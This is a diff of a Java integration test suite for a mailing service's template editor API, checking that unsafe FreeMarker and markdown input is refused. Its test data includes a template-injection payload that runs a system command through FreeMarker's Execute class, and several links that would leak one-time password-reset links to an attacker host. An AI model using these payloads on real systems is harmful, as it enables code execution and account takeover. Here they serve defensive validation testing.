@@ -17,6 +17,7 @@ import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 import tools.jackson.databind.JsonNode;
 import tools.jackson.databind.json.JsonMapper;
 
@@ -114,29 +115,30 @@ class TemplateApiIntegrationTests {
 	}
 
 	@ParameterizedTest
-	@CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
-			`Hi\n${context.nobody}`                  | context.nobody is missing, line 5
-			`Hi ${`                                  | line 4
-			`\n\n<#if receiver>x</#if>`              | receiver is neither true nor false, line 6
-			`<#list 1.. as i></#list>`               | a range of more than 999 is not allowed
-			`<#list 1..999 as i><#list 1..999 as j><#list 1..999 as k></#list></#list></#list>` | did not end within
-			`<#list 1..999 as i><#list 1..999 as j>x${i}</#list></#list>` | longer than
-			`<#assign a = "x"><#assign a = a + a>`   | + is not allowed
-			`<#assign a>x</#assign>`                 | <#assign> around text is not allowed
-			`<#assign a = "${event.id}">`            | a value within quotes is not allowed
-			`<#assign a = 9 * 9>`                    | * within <#assign> is not allowed
-			`<#macro m>x</#macro>`                   | <#macro> is not allowed
-			`${receiver? <#-- x --> api}`            | ?api is not allowed
-			`${"freemarker.template.utility.Execute"?new()("id")}` | ?new is forbidden, line 4
-			`${.data_model}`                         | .data_model is forbidden
-			`${. version}`                           | .version is not allowed
-			`<#include "x">`                         | <#include is forbidden
-			`${receiver.name?matches("(a+)+$")}`     | ?matches is not allowed
-			`${""?left_pad(1000000000)}`             | ?left_pad is not allowed
-			`${receiver.name?no_esc}`                | ?no_esc is not allowed
-			`${[1]?map(x -> x)?size}`                | ?map is not allowed
-			`${link("https://evil.example/")}`       | link: only paths of our own are allowed, line 4
-			""")
+	@CsvSource(delimiter = '|', quoteCharacter = '`',
+			textBlock = """
+					`Hi\n${context.nobody}`                  | context.nobody is missing, line 5
+					`Hi ${`                                  | line 4
+					`\n\n<#if receiver>x</#if>`              | receiver is neither true nor false, line 6
+					`<#list 1.. as i></#list>`               | a range of more than 999 is not allowed
+					`<#list 1..999 as i><#list 1..999 as j><#list 1..999 as k></#list></#list></#list>` | did not end within
+					`<#list 1..999 as i><#list 1..999 as j>x${i}</#list></#list>` | longer than
+					`<#assign a = "x"><#assign a = a + a>`   | + is not allowed
+					`<#assign a>x</#assign>`                 | <#assign> around text is not allowed
+					`<#assign a = "${event.id}">`            | a value within quotes is not allowed
+					`<#assign a = 9 * 9>`                    | * is not allowed
+					`<#macro m>x</#macro>`                   | <#macro> is not allowed
+					`${receiver? <#-- x --> api}`            | ? is not allowed
+					`${"freemarker.template.utility.Execute"?new()("id")}` | ?new is not allowed in templates from the editor, line 4
+					`${.data_model}`                         | .data_model is forbidden
+					`${. version}`                           | .version is not allowed
+					`<#include "x">`                         | <#include is forbidden
+					`${receiver.name?matches("(a+)+$")}`     | ?matches is not allowed
+					`${""?left_pad(1000000000)}`             | ?left_pad is not allowed
+					`${receiver.name?no_esc}`                | ?no_esc is not allowed
+					`${[1]?map(x -> x)?size}`                | ?map is not allowed
+					`${link("https://evil.example/")}`       | link: only paths of our own are allowed, line 4
+					""")
 	void namesTheLineOfWhatMayNotBeSaved(String body, String reason) throws Exception {
 		HttpResponse<String> refused = save(0, body.replace("\\n", "\n"));
 
@@ -196,6 +198,32 @@ class TemplateApiIntegrationTests {
 		JsonNode wrong = MailingRest.read(this.editor.post("/api/v1/templates/new_movies/preview",
 				"{\"file\": \"email/new_movies.md\", \"source\": \"---\\nsubject: x\\n---\\n\\n${context.x}\"}"));
 		assertThat(wrong.path("line").asInt()).isEqualTo(5);
+	}
+
+	@Test
+	void isTriedByThoseAloneWhoWrite() throws Exception {
+		MailingRest reader = new MailingRest(this.port, IntegrationTest.WATCHERS_TOKEN);
+		assertThat(reader.get("/api/v1/templates/new_movies").statusCode()).isEqualTo(200);
+
+		assertThat(reader
+			.post("/api/v1/templates/new_movies/preview",
+					"{\"file\": \"email/new_movies.md\", \"source\": \"---\\nsubject: x\\n---\\nx\"}")
+			.statusCode()).isEqualTo(403);
+	}
+
+	@ParameterizedTest
+	@ValueSource(strings = { "![x](https://evil.example/p?t=${link(details.reset_link)})",
+			"![x](${link(details.reset_link)})", "[x](https://evil.example/${details.reset_link})",
+			"[x](//evil.example/${details.reset_link})", "[x](http://localhost:8081@evil.example/)",
+			"[x]: https://evil.example/${details.reset_link[0..3]}\n\n[x]", "<https://evil.example/>",
+			"https://evil.example/?t=${details.reset_link?upper_case}" })
+	void letsNoLinkThatWorksOnceLeaveForElsewhere(String body) throws Exception {
+		String text = "---\nsubject: x\n---\n[Reset](${link(details.reset_link)})\n\n" + body;
+		HttpResponse<String> refused = this.editor.post(RESET + "/versions", JsonMapper.shared()
+			.writeValueAsString(Map.of("after", 0, "texts", Map.of("email/password_reset.md", text))));
+
+		assertThat(refused.statusCode()).isEqualTo(400);
+		assertThat(refused.body()).contains("is not allowed in a letter with a link that works once");
 	}
 
 	@Test
